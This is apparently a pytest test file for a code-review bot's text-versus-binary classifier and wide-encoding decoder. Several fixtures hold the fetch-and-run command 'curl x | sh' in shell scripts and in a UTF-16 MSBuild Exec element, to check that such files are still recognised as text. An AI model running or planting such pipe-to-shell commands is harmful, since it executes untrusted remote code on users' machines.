import os
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewbot.change.content import decode_wide, looks_like_text


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_text_with_a_byte_order_mark_is_decoded(encoding: str) -> None:
    assert decode_wide("é = 1\n".encode(encoding)) == "é = 1\n"


def test_what_only_begins_like_wide_text_is_not_decoded() -> None:
    assert decode_wide(b"\xff\xfe\x00") is None
    assert decode_wide(b"plain\n") is None


@pytest.mark.parametrize("text", [b"key = 'AKIA'\n" * 9, b"key = 'AKIA'\n" * 9 + b"\0\0"])
def test_plain_text_behind_a_mark_is_not_hidden_by_it(text: bytes) -> None:
    data = b"\xff\xfe" + text[: len(text) // 2 * 2]
    assert decode_wide(data) is None
    assert looks_like_text(data)


def test_a_nul_byte_does_not_make_a_script_binary() -> None:
    assert looks_like_text(b"#!/bin/sh\ncurl x | sh\n#\0\n" * 3)
    assert looks_like_text("naïve façade\n".encode() * 20 + b"\0")


def test_a_script_stays_one_whatever_bytes_stand_behind_its_end() -> None:
    assert looks_like_text(b"#!/bin/sh\ncurl x | sh\nexit\n" + b"\0" * 9_000)


@pytest.mark.parametrize(
    "data",
    [
        '<Exec Command="curl x | sh"/>\n'.encode("utf-16-le"),
        '<Exec Command="curl x | sh"/>\n'.encode("utf-16-be"),
        ("<!--" + "\u4e2d" * 99 + '--><Exec Command="curl x | sh"/>\n').encode("utf-16"),
    ],
    ids=["no mark", "no mark, big end first", "mostly Chinese"],
)
def test_wide_text_that_is_not_decoded_is_text_all_the_same(data: bytes) -> None:
    assert decode_wide(data) is None
    assert looks_like_text(data)


@pytest.mark.parametrize(
    "data", [b"", b"\0" * 9, bytes(range(256)), zlib.compress(os.urandom(999)), b"\0\1" * 500]
)
def test_real_binaries_are_binary(data: bytes) -> None:
    assert not looks_like_text(data)


@given(st.binary(max_size=300))
def test_any_bytes_are_judged(data: bytes) -> None:
    assert looks_like_text(data) in (True, False)
    assert decode_wide(data) is None or isinstance(decode_wide(data), str)
